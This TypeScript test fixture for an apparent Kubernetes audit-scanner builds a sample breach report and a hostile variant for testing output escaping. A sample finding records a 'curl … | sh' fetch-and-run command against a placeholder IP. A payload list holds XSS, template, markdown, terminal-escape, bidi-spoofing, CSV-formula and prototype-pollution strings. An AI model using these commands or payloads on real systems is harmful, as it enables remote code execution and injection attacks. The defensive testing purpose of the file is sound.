/** Reports for tests: a believable one, and one in which everything that others wrote is an attack. */

import { createHash } from 'node:crypto';
import { type Actor, SEVERITIES, type Severity } from '../../src/detect/finding.ts';
import type { Outcome } from '../../src/event/outcome.ts';
import { formatTime } from '../../src/event/time.ts';
import {
  type ActorActivity,
  type ActorName,
  type Bucket,
  type Inputs,
  MAX_TEXT,
  type Ranking,
  REPORT_VERSION,
  type Report,
  type ReportedFinding,
  type Timeline,
} from '../../src/report/model.ts';

/** Midnight in Berlin, where the sample's readers are. */
const START = Date.parse('2026-11-16T23:00:00Z') * 1000;
const MINUTE = 60_000_000;
const HOUR = 60 * MINUTE;

/** `08:03:12` of the sample's day, or with a part of a second, in UTC. */
function at(clock: string): string {
  return formatTime(Date.parse(`2026-11-17T${clock}Z`) * 1000 + 4_217);
}

function sha256(text: string): string {
  return createHash('sha256').update(text).digest('hex');
}

/** A service account, with what its name tells. */
function account(namespace: string, name: string): Actor {
  return {
    username: `system:serviceaccount:${namespace}:${name}`,
    groups: ['system:serviceaccounts', `system:serviceaccounts:${namespace}`, 'system:authenticated'],
    serviceAccount: { namespace, name },
  };
}

function person(username: string, ...groups: string[]): Actor {
  return { username, groups: [...groups, 'system:authenticated'] };
}

/** Who was not even found out to be anonymous: a 401. */
const nobody: Actor = { username: '', groups: [] };
const anonymous: Actor = { username: 'system:anonymous', groups: ['system:unauthenticated'] };
const ciRunner = account('staging', 'ci-runner');
const deployer = account('shop-prod', 'deployer');
const maria = person('maria@example.com', 'sre');
const backupAdmin = person('backup-admin', 'backup-operators');
const asAdmin: Actor = { ...deployer, impersonated: 'system:admin' };

const LIVE = '/var/log/kubernetes/audit/audit.log';
const ROTATED = '/var/log/kubernetes/audit/audit-2026-11-17T08-33-04.402.log.gz';
const CURL = 'curl/8.5.0';
const KUBECTL = 'kubectl/v1.31.2 (linux/amd64) kubernetes/5864a46';

/** What a finding is where nothing else is said of it. */
function finding(
  some: Pick<ReportedFinding, 'detector' | 'title' | 'severity' | 'attack' | 'actor' | 'verb' | 'uri'> &
    Partial<ReportedFinding>,
): ReportedFinding {
  const id = sha256(`${some.detector} ${some.actor.username} ${some.uri} ${some.first}`);
  const auditID = `${id.slice(0, 8)}-${id.slice(8, 12)}-4${id.slice(13, 16)}-9${id.slice(17, 20)}-${id.slice(20, 32)}`;
  return {
    id,
    findings: some.count ?? 1,
    new: some.findings ?? some.count ?? 1,
    count: 1,
    show: `auditscan show ${id.slice(0, 12)} --rotated /var/log/kubernetes/audit`,
    next: null,
    first: null,
    last: some.first ?? null,
    object: null,
    outcome: 'allowed',
    code: 200,
    sourceIPs: ['198.51.100.23'],
    userAgent: CURL,
    auditID,
    source: { path: ROTATED, offset: 81_234, label: 'cp-1' },
    details: {},
    ...some,
  };
}

const FINDINGS: readonly ReportedFinding[] = [
  finding({
    detector: 'cluster-admin-binding',
    title: 'Somebody was bound to cluster-admin',
    severity: 'critical',
    attack: ['T1098.006'],
    first: at('08:46:40'),
    actor: account('kube-system', 'clusterrole-aggregation-controller'),
    verb: 'create',
    object: { group: 'rbac.authorization.k8s.io', resource: 'clusterrolebindings', name: 'system:deployer-sync' },
    uri: '/apis/rbac.authorization.k8s.io/v1/clusterrolebindings',
    code: 201,
    details: {
      role: 'ClusterRole cluster-admin',
      subjects: ['ServiceAccount shop-prod/deployer'],
      binding: { roleRef: { kind: 'ClusterRole', name: 'cluster-admin' }, subjects: [{ kind: 'ServiceAccount' }] },
    },
  }),
  finding({
    detector: 'cluster-admin-binding',
    title: 'Somebody was bound to cluster-admin',
    severity: 'critical',
    attack: ['T1098.006'],
    count: 2,
    new: 1,
    first: at('08:51:02'),
    last: at('08:51:09'),
    actor: deployer,
    verb: 'patch',
    object: {
      group: 'rbac.authorization.k8s.io',
      resource: 'rolebindings',
      namespace: 'payments-prod',
      name: 'deployer-admin',
    },
    uri: '/apis/rbac.authorization.k8s.io/v1/namespaces/payments-prod/rolebindings/deployer-admin?fieldManager=kubectl&force=true',
    details: { role: 'ClusterRole cluster-admin', subjects: ['User backup-admin', 'Group on-call'] },
  }),
  finding({
    detector: 'impersonation',
    title: 'Somebody acted as somebody else',
    severity: 'critical',
    attack: ['T1134'],
    count: 3,
    first: at('08:58:00'),
    last: at('08:58:31'),
    actor: asAdmin,
    verb: 'list',
    object: { group: '', resource: 'secrets', namespace: 'kube-system' },
    uri: '/api/v1/namespaces/kube-system/secrets?limit=500',
    userAgent: KUBECTL,
    details: { as: 'system:admin', groups: ['system:masters', 'system:authenticated'] },
  }),
  finding({
    detector: 'anonymous-access',
    title: 'The API answered somebody without credentials',
    severity: 'high',
    attack: ['T1190'],
    count: 4,
    new: 0,
    first: at('06:41:07'),
    last: at('06:52:48'),
    actor: anonymous,
    verb: 'get',
    uri: '/version?timeout=32s',
    sourceIPs: ['203.0.113.66'],
    details: { allowedBy: null },
  }),
  finding({
    detector: 'secrets-list-all-namespaces',
    title: 'Secrets of all namespaces were listed',
    severity: 'high',
    attack: ['T1552.007'],
    count: 2,
    first: at('08:03:12'),
    last: at('08:03:20'),
    actor: ciRunner,
    verb: 'list',
    object: { group: '', resource: 'secrets' },
    uri: '/api/v1/secrets?limit=500',
    details: { allowedBy: 'ClusterRoleBinding ci-legacy' },
  }),
  finding({
    detector: 'prod-exec',
    title: 'Shell opened in a production pod',
    severity: 'high',
    attack: ['T1609'],
    count: 2,
    first: at('08:31:00'),
    last: at('08:31:00.512'),
    actor: deployer,
    verb: 'get',
    object: {
      group: '',
      resource: 'pods',
      subresource: 'exec',
      namespace: 'payments-prod',
      name: 'ledger-db-0',
    },
    uri: '/api/v1/namespaces/payments-prod/pods/ledger-db-0/exec?command=sh&command=-c&command=curl+-s+http%3A%2F%2F198.51.100.23%2Fi+%7C+sh&container=db',
    code: 101,
    sourceIPs: ['198.51.100.23', '10.0.0.11'],
    details: { command: ['sh', '-c', 'curl -s http://198.51.100.23/i | sh'], container: 'db' },
  }),
  finding({
    detector: 'privileged-pod',
    title: 'A pod that can take over its node was made',
    severity: 'high',
    attack: ['T1611', 'T1610'],
    first: at('09:15:44'),
    actor: deployer,
    verb: 'create',
    object: { group: 'apps', resource: 'daemonsets', namespace: 'kube-telemetry', name: 'node-metrics' },
    uri: '/apis/apps/v1/namespaces/kube-telemetry/daemonsets?fieldManager=kubectl-create',
    code: 201,
    userAgent: KUBECTL,
    details: { containers: ['agent'], images: ['registry.example.net/tools/agent:3'], hostPaths: ['/'] },
  }),
  finding({
    detector: 'tamper',
    title: 'Traces removed, or an attempt to blind the reader',
    severity: 'high',
    attack: ['T1070', 'T1562'],
    new: 0,
    // An event with hardly anything in it, not even a time.
    actor: nobody,
    verb: '',
    uri: '',
    outcome: 'unknown',
    code: null,
    sourceIPs: [],
    userAgent: '',
    auditID: '',
    source: { path: LIVE, offset: 0, label: 'cp-2' },
    details: { what: 'keys that blind JSONata: sequence' },
  }),
  finding({
    detector: 'secret-read-cross-namespace',
    title: 'A workload read a secret of another namespace',
    severity: 'medium',
    attack: ['T1552.007'],
    count: 10_412,
    new: 12,
    first: at('00:12:03'),
    last: at('22:09:59'),
    actor: account('monitoring', 'backup-controller'),
    verb: 'get',
    object: { group: '', resource: 'secrets', namespace: 'payments-prod', name: 'ledger-db' },
    uri: '/api/v1/namespaces/payments-prod/secrets/ledger-db',
    sourceIPs: ['10.0.0.11'],
    userAgent: 'backup-controller/v2.0',
    source: { path: LIVE, offset: 0 },
    details: { home: 'monitoring', allowedBy: 'RoleBinding payments-prod/backup' },
  }),
  finding({
    detector: 'failed-authentication',
    title: 'Many tokens were refused',
    severity: 'medium',
    attack: ['T1110'],
    findings: 1,
    count: 7,
    first: at('06:42:00'),
    last: at('06:42:58'),
    actor: nobody,
    verb: 'get',
    uri: '/api/v1/nodes',
    outcome: 'denied',
    code: 401,
    sourceIPs: ['203.0.113.66'],
    userAgent: 'python-requests/2.32.3',
    details: { claimedAddresses: ['203.0.113.66'] },
  }),
  finding({
    detector: 'admission-webhook-change',
    title: 'An admission webhook was changed',
    severity: 'medium',
    attack: ['T1546'],
    first: at('09:24:30'),
    actor: deployer,
    verb: 'patch',
    object: {
      group: 'admissionregistration.k8s.io',
      resource: 'validatingwebhookconfigurations',
      name: 'policy.example.com',
    },
    uri: '/apis/admissionregistration.k8s.io/v1/validatingwebhookconfigurations/policy.example.com',
    details: {
      failurePolicy: 'Ignore',
      patched: ['replace /webhooks/0/failurePolicy'],
      webhooks: [{ name: 'check.policy.example.com', rules: [{ operations: ['CREATE'] }], timeoutSeconds: 1 }],
    },
  }),
  finding({
    detector: 'secret-denied',
    title: 'Somebody may not read a secret, and tried',
    severity: 'low',
    attack: ['T1552.007'],
    count: 3,
    first: at('08:01:10'),
    last: at('08:01:15'),
    actor: ciRunner,
    verb: 'get',
    object: { group: '', resource: 'secrets', namespace: 'shop-prod', name: 'deployer-token' },
    uri: '/api/v1/namespaces/shop-prod/secrets/deployer-token',
    outcome: 'denied',
    code: 403,
    details: { reason: 'secrets "deployer-token" is forbidden: User "system:serviceaccount:staging:ci-runner"' },
  }),
  finding({
    detector: 'namespace-change',
    title: 'A namespace was made or deleted',
    severity: 'low',
    attack: [],
    first: at('10:05:50'),
    actor: maria,
    verb: 'delete',
    object: { group: '', resource: 'namespaces', namespace: 'kube-telemetry', name: 'kube-telemetry' },
    uri: '/api/v1/namespaces/kube-telemetry',
    sourceIPs: ['192.0.2.17'],
    userAgent: KUBECTL,
    details: { namespace: 'kube-telemetry', ofThePlatform: false },
  }),
  finding({
    detector: 'rbac-change',
    title: 'Roles or bindings were changed',
    severity: 'info',
    attack: ['T1098.006'],
    first: at('23:55:00').replace('11-17', '11-16'),
    actor: person('tomasz@example.com', 'shop'),
    verb: 'update',
    object: { group: 'batch.example.com', resource: 'rolepolicies', namespace: 'shop-prod', name: 'nightly' },
    uri: '/apis/batch.example.com/v1/namespaces/shop-prod/rolepolicies/nightly',
    outcome: 'unknown',
    code: null,
    userAgent: KUBECTL,
    source: { path: LIVE, offset: 4_096 },
  }),
  finding({
    detector: 'rbac-change',
    title: 'Roles or bindings were changed',
    severity: 'info',
    attack: ['T1098.006'],
    count: 2,
    new: 0,
    first: at('05:52:07'),
    last: at('05:54:33'),
    actor: maria,
    verb: 'create',
    object: {
      group: 'rbac.authorization.k8s.io',
      resource: 'rolebindings',
      namespace: 'staging',
      name: 'shop-viewers',
    },
    uri: '/apis/rbac.authorization.k8s.io/v1/namespaces/staging/rolebindings',
    outcome: 'failed',
    code: 409,
    sourceIPs: ['192.0.2.17'],
    userAgent: KUBECTL,
    source: null,
    details: { role: 'Role shop-viewer', subjects: ['Group shop'] },
  }),
];

function noOutcomes(): Record<Outcome, number> {
  return { allowed: 0, denied: 0, failed: 0, unknown: 0 };
}

function noFindings(): Record<Severity, number> {
  return { info: 0, low: 0, medium: 0, high: 0, critical: 0 };
}

const bucketOf = (time: string): number => Math.floor((Date.parse(time) * 1000 - START) / HOUR);

/** A quiet night, people from eight to six, nothing at all for an hour, and an attack in the morning. */
function timelineOf(findings: readonly ReportedFinding[]): Timeline {
  const buckets: Bucket[] = Array.from({ length: 24 }, (_, hour) => {
    const isSilent = hour === 3;
    const isDay = hour >= 8 && hour < 18;
    const told = noFindings();
    for (const { first, severity, findings: here } of findings)
      if (first !== null && bucketOf(first) === hour) told[severity] += here;
    return {
      start: formatTime(START + hour * HOUR),
      outcomes: isSilent
        ? noOutcomes()
        : {
            allowed: (isDay ? 4_200 : 640) + ((hour * 7919) % 311),
            denied: hour === 7 || hour === 9 ? 412 : hour % 5,
            failed: hour % 7,
            unknown: hour === 9 ? 3 : 0,
          },
      findings: told,
    };
  });
  return { bucketSeconds: 3_600, buckets, untimed: 2 };
}

function totalsOf(findings: readonly ReportedFinding[], otherFindings: number, timeline: Timeline): Report['totals'] {
  const outcomes = noOutcomes();
  for (const bucket of timeline.buckets)
    for (const name of Object.keys(outcomes) as Outcome[]) outcomes[name] += bucket.outcomes[name];
  outcomes.unknown += timeline.untimed;
  const requests = sum(Object.values(outcomes));
  const bySeverity = [...SEVERITIES].reverse().map((severity) => {
    const same = findings.filter((one) => one.severity === severity);
    // Those that the report has no room for are the last ones.
    const others = severity === 'info' ? otherFindings : 0;
    return {
      severity,
      findings: sum(same.map((one) => one.findings)) + others,
      new: sum(same.map((one) => one.new ?? 0)),
    };
  });
  return {
    requests,
    events: requests + 3_120,
    outcomes,
    actors: 31,
    namespaces: 9,
    findings: sum(bySeverity.map((one) => one.findings)),
    newFindings: sum(bySeverity.map((one) => one.new)),
    bySeverity,
  };
}

function sum(counts: readonly number[]): number {
  return counts.reduce((total, count) => total + count, 0);
}

function named({ username, impersonated = null }: { username: string; impersonated?: string | null }): ActorName {
  return { username, impersonated };
}

function activity(actor: Actor, count: number, writes: number, denied: number, times?: [string, string]) {
  const [first, last] = times ?? [null, null];
  return { actor: named(actor), count, writes, denied, first, last } satisfies ActorActivity;
}

function ranking<Row>(rows: readonly Row[], others = { rows: 0, count: 0 }, isComplete = true): Ranking<Row> {
  return { rows, others, isComplete };
}

const ALL_DAY: [string, string] = [at('00:00:02'), at('22:09:58')];

/** 24 numbers, most of them from `from` to `to`. */
function hours(from: number, to: number, most: number): number[] {
  return Array.from({ length: 24 }, (_, hour) => (hour >= from && hour < to ? most - ((hour * 37) % 50) : hour % 3));
}

const INPUTS: Inputs = {
  files: [
    { path: '/var/log/kubernetes/audit/audit-2026-11-17T06-00-00.123.log.gz', label: 'cp-1', bytes: 1_204_511 },
    { path: ROTATED, label: 'cp-1', bytes: 2_817_002 },
    { path: LIVE, label: null, bytes: 48_220_118 },
  ].map((file) => ({ ...file, sha256: file.label === null ? null : sha256(file.path) })),
  otherFiles: 2,
  bytes: 104_857_611,
  rejects: [
    { reason: 'torn', count: 1, bytes: 712, first: { path: ROTATED, offset: 0, label: 'cp-1' } },
    { reason: 'not-json', count: 14, bytes: 20_480, first: { path: LIVE, offset: 1_048_576 } },
  ],
  gaps: { count: 2, certain: 1 },
  detectors: 18,
  configuration: '/etc/auditscan/auditscan.yaml',
  excepted: 41,
  notes: ['audit.log.1 was left out: audit.log.1.gz holds the same'],
};

const ANONYMOUS_NOTE =
  'Somebody who did not say who they are was answered. What the whole cluster may see, the whole internet may see.';

/** A day at a company that was broken into, read with `--known`. */
export function sampleReport(change: Partial<Report> = {}): Report {
  const timeline = timelineOf(FINDINGS);
  const otherFindings = 27;
  return {
    auditscan: 'report',
    version: REPORT_VERSION,
    generated: '2026-11-17T23:05:11.402193Z',
    tool: { name: 'auditscan', version: '0.1.0' },
    title: 'Audit report: shop cluster',
    timezone: 'Europe/Berlin',
    window: {
      since: formatTime(START),
      until: formatTime(START + 24 * HOUR),
      sinceLast: false,
      selection: [],
      first: formatTime(START + 12 * MINUTE),
      last: formatTime(START + 24 * HOUR - 50 * MINUTE),
    },
    totals: totalsOf(FINDINGS, otherFindings, timeline),
    findings: FINDINGS,
    detectors: [...new Map(FINDINGS.map((one) => [one.detector, one.title]))]
      .sort(([a], [b]) => (a < b ? -1 : 1))
      .map(([id, title]) => ({
        id,
        title,
        description: id === 'anonymous-access' ? ANONYMOUS_NOTE : `${title}. Look at who did it, and from where.`,
        falsePositives: id === 'cluster-admin-binding' ? null : 'Work that was planned; break-glass access.',
      })),
    otherFindings,
    toldBefore: 6,
    timeline,
    hours: {
      actors: {
        rows: [
          { name: named(account('monitoring', 'backup-controller')), hours: hours(0, 24, 430) },
          { name: named(deployer), hours: hours(9, 11, 180) },
          { name: named(maria), hours: hours(8, 18, 90) },
          { name: named(asAdmin), hours: hours(9, 10, 60) },
          { name: named(nobody), hours: hours(7, 8, 55) },
        ],
        others: 26,
      },
      namespaces: {
        rows: [
          { name: 'kube-system', hours: hours(0, 24, 700) },
          { name: '', hours: hours(0, 24, 300) },
          { name: 'payments-prod', hours: hours(8, 18, 220) },
          { name: 'shop-prod', hours: hours(6, 22, 180) },
        ],
        others: 5,
      },
    },
    actors: ranking(
      [
        activity(account('monitoring', 'backup-controller'), 10_412, 0, 0, ALL_DAY),
        activity(account('kube-system', 'replicaset-controller'), 6_020, 5_911, 0, ALL_DAY),
        activity(person('tomasz@example.com', 'shop'), 1_288, 402, 3, [at('06:31:15'), at('16:40:02')]),
        activity(maria, 877, 61, 0, [at('05:52:07'), at('17:20:40')]),
        activity(deployer, 214, 58, 2, [at('08:12:00'), at('09:40:12')]),
        activity(anonymous, 96, 0, 92, [at('06:41:07'), at('06:52:48')]),
        activity(ciRunner, 40, 0, 11, [at('07:58:01'), at('08:03:20')]),
        activity(asAdmin, 31, 12, 0, [at('08:58:00'), at('08:58:31')]),
        activity(nobody, 7, 0, 7),
      ],
      { rows: 22, count: 31_480 },
      false,
    ),
    resources: ranking(
      [
        { resource: 'pods', count: 18_204, writes: 5_120, denied: 40 },
        { resource: 'secrets', count: 10_920, writes: 14, denied: 19 },
        { resource: 'deployments', count: 3_011, writes: 1_204, denied: 0 },
        { resource: '/metrics', count: 1_022, writes: 0, denied: 61 },
        { resource: 'pods/exec', count: 12, writes: 12, denied: 1 },
        { resource: 'rolepolicies.batch.example.com', count: 2, writes: 1, denied: 0 },
      ],
      { rows: 41, count: 20_112 },
    ),
    denied: ranking(
      [
        {
          actor: named(anonymous),
          verb: 'list',
          resource: 'secrets',
          namespace: 'kube-system',
          count: 412,
          first: at('06:41:09'),
          last: at('06:52:40'),
        },
        {
          actor: named(ciRunner),
          verb: 'get',
          resource: 'secrets',
          namespace: 'shop-prod',
          count: 3,
          first: at('08:01:10'),
          last: at('08:01:15'),
        },
        { actor: named(nobody), verb: 'get', resource: '', namespace: '', count: 7, first: null, last: null },
      ],
      { rows: 8, count: 402 },
    ),
    deletions: ranking([
      {
        actor: named(deployer),
        resource: 'events',
        namespace: 'payments-prod',
        count: 2,
        collections: 2,
        names: [],
        first: at('09:33:01'),
        last: at('09:33:04'),
      },
      {
        actor: named(deployer),
        resource: 'configmaps',
        namespace: 'kube-system',
        count: 1,
        collections: 0,
        names: ['audit-policy'],
        first: at('09:34:10'),
        last: at('09:34:10'),
      },
      {
        actor: named(maria),
        resource: 'clusterrolebindings.rbac.authorization.k8s.io',
        namespace: '',
        count: 3,
        collections: 0,
        names: ['system:deployer-sync', 'telemetry', 'telemetry-view'],
        first: at('10:05:01'),
        last: at('10:05:44'),
      },
    ]),
    outsideBusinessHours: {
      businessHours: 'Mon to Fri, 08:00 to 18:00, Europe/Berlin',
      requests: 219,
      actors: ranking(
        [
          activity(backupAdmin, 201, 3, 4, [at('01:10:00'), at('01:58:59')]),
          activity(maria, 14, 6, 0, [at('05:52:07'), at('06:10:00')]),
        ],
        { rows: 2, count: 4 },
      ),
    },
    blindSpots: [
      { kind: 'error', text: '/var/log/kubernetes/audit/audit.log.3.gz: unexpected end of file after 12.4 MB' },
      { kind: 'failure', text: `wildcard-role failed on 2 events, first at ${LIVE}:9812: the value is no list` },
      { kind: 'gap', text: 'cp-1 audit.log.4 is missing between audit.log.5 and audit.log.3' },
      {
        kind: 'gap',
        text: 'nothing between 2026-11-17 03:00 and 04:10 Europe/Berlin: audit.log.2 ends, audit.log.1 begins',
      },
      {
        kind: 'start',
        text: `${LIVE} begins at 2026-11-17 00:12:00: what was logged in the window before is not there`,
      },
      { kind: 'end', text: `nothing was logged in cp-1 ${ROTATED} after 2026-11-17 22:10:00` },
      { kind: 'damage', text: `1 piece of an event (torn), 712 B, first at cp-1 ${ROTATED}:0` },
      { kind: 'damage', text: `14 lines that are not JSON (not-json), 20.5 KB, first at ${LIVE}:1048576` },
      {
        kind: 'stage',
        text: 'every event is of the stage RequestReceived, which decides nothing: the audit policy leaves out the later stages',
      },
      {
        kind: 'level',
        text: '61 of 1,204 changes of deployments were logged without the object that was sent: what changed is not known; the audit level Request would log it',
      },
      { kind: 'limit', text: '27 findings more than this report holds; auditscan detect -o jsonl gives all' },
    ],
    inputs: INPUTS,
    ...change,
  };
}

const LONG_MARKS = `z${'\u0301\u0489'.repeat(400)}`;

/** What whoever may send a request, name a file or set a label can put where others will read it. */
export const ATTACKS: readonly string[] = [
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  "' onmouseover='alert(1)",
  '</style><style>*{display:none}</style>',
  '</script><!--',
  ']]><svg/onload=alert(1)>',
  '<!--<script>',
  'javascript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  '$\u007balert(1)} {{constructor.constructor("alert(1)")()}}',
  '&lt;b&gt; &amp;lt; &#60; &NewLine;',
  '`code` ``` `',
  'a|b\\|c',
  '|---|---|\n| a | b |',
  '[x](javascript:alert(1)) ![y](https://evil.example/p.png)',
  '@everyone @here <!channel> <@U123> #1 GH-1 org/repo#2',
  'www.evil.example https://evil.example/?a=b#c evil@example.com',
  '# heading\n\n- list\n> quote\n---\n\n    code',
  '**bold** __under__ ~~gone~~ :rocket: \\*',
  'line\nfeed\r\nand\ttab\u2028\u2029\u0085',
  'nul\u0000 bell\u0007 escape\u001b[2J\u001b]8;;http://evil.example\u0007link\u001b]8;;\u0007 \u009b31m del\u007f',
  '\u202egnp.exe\u202c \u2066isolate',
  'zero\u200bwidth\u2060join\ufeffer \u{e0041}\u{e007f}',
  '\ud800 lone \udc00 surrogates \udfff\ud83d',
  'W'.repeat(MAX_TEXT),
  '漢'.repeat(MAX_TEXT),
  LONG_MARKS,
  '\u0301starts with a mark',
  '👨\u200d👩\u200d👧 🇩🇪 🫠 ❤\ufe0f 👩🏽‍💻',
  'שלום עולם مرحبا بالعالم',
  '=cmd|"/c calc"!A1',
  '</textarea></title></noscript></template></iframe>',
  '__proto__',
  'constructor',
  '   ',
  '\ue000 private',
];

/** One attack after the other, so that each comes to stand in each field. */
function attacks(start: number): () => string {
  let next = start;
  return () => ATTACKS[next++ % ATTACKS.length] ?? '';
}

/** The sample with an attack in every text that a log, a file, a label, an option or a detector's author gave. */
export function hostileReport(): Report {
  const sample = sampleReport();
  const next = attacks(0);
  const name = (): ActorName => ({ username: next(), impersonated: next() });
  const [someActivity] = sample.actors.rows;
  const [someDenied] = sample.denied.rows;
  const [someDeletion] = sample.deletions.rows;
  const each = <Row>(row: Row | undefined, hostile: (row: Row) => Row): Row[] =>
    row === undefined ? [] : ATTACKS.map(() => hostile(row));
  return {
    ...sample,
    title: ATTACKS.join(' ').slice(0, MAX_TEXT),
    findings: ATTACKS.map((_, index) => hostileFinding(sample.findings[index % sample.findings.length], index)),
    detectors: ATTACKS.map((attack, index) => ({
      id: `hostile-${index}`,
      title: attack,
      description: next(),
      falsePositives: next(),
    })),
    hours: {
      actors: { rows: ATTACKS.map(() => ({ name: name(), hours: hours(0, 24, 900) })), others: 3 },
      namespaces: { rows: ATTACKS.map((attack) => ({ name: attack, hours: hours(0, 24, 900) })), others: 3 },
    },
    actors: { ...sample.actors, rows: each(someActivity, (row) => ({ ...row, actor: name() })) },
    resources: {
      ...sample.resources,
      rows: ATTACKS.map((resource) => ({ resource, count: 1, writes: 0, denied: 0 })),
    },
    denied: {
      ...sample.denied,
      rows: each(someDenied, (row) => ({
        ...row,
        actor: name(),
        verb: next(),
        resource: next(),
        namespace: next(),
      })),
    },
    deletions: {
      ...sample.deletions,
      rows: each(someDeletion, (row) => ({
        ...row,
        actor: name(),
        resource: next(),
        namespace: next(),
        names: [next(), next(), next()],
      })),
    },
    outsideBusinessHours: {
      businessHours: 'Mon to Fri, 08:00 to 18:00, Europe/Berlin',
      requests: 36,
      actors: { ...sample.actors, rows: each(someActivity, (row) => ({ ...row, actor: name() })) },
    },
    blindSpots: sample.blindSpots.flatMap(({ kind }) => ATTACKS.map((text) => ({ kind, text }))),
    inputs: {
      ...sample.inputs,
      files: ATTACKS.map((path, index) => ({
        path,
        label: next(),
        bytes: index,
        sha256: index % 2 === 0 ? sha256(path) : null,
      })),
      rejects: sample.inputs.rejects.map((reject) => ({
        ...reject,
        first: { path: next(), offset: 0, label: next() },
      })),
      notes: ATTACKS,
    },
  };
}

function hostileFinding(like: ReportedFinding | undefined, index: number): ReportedFinding {
  const next = attacks(index);
  const sample = like ?? finding({ ...(FINDINGS[0] as ReportedFinding) });
  return {
    ...sample,
    id: sha256(`${index}`),
    detector: `hostile-${index}`,
    title: next(),
    actor: {
      username: next(),
      groups: [next(), next()],
      impersonated: next(),
      serviceAccount: { namespace: next(), name: next() },
    },
    verb: next(),
    object:
      index % 4 === 3
        ? null
        : { group: next(), resource: next(), subresource: next(), namespace: next(), name: next() },
    uri: next(),
    sourceIPs: [next(), next()],
    userAgent: next(),
    auditID: next(),
    source: { path: next(), offset: index, label: next() },
    details: {
      text: next(),
      list: [next(), next()],
      nested: { [next()]: { [next()]: [next(), { [next()]: next() }] } },
      // As JSON.parse gives it: a field like any other, and not the prototype.
      planted: JSON.parse('{"__proto__": {"polluted": "</script>"}, "toString": null}'),
    },
  };
}
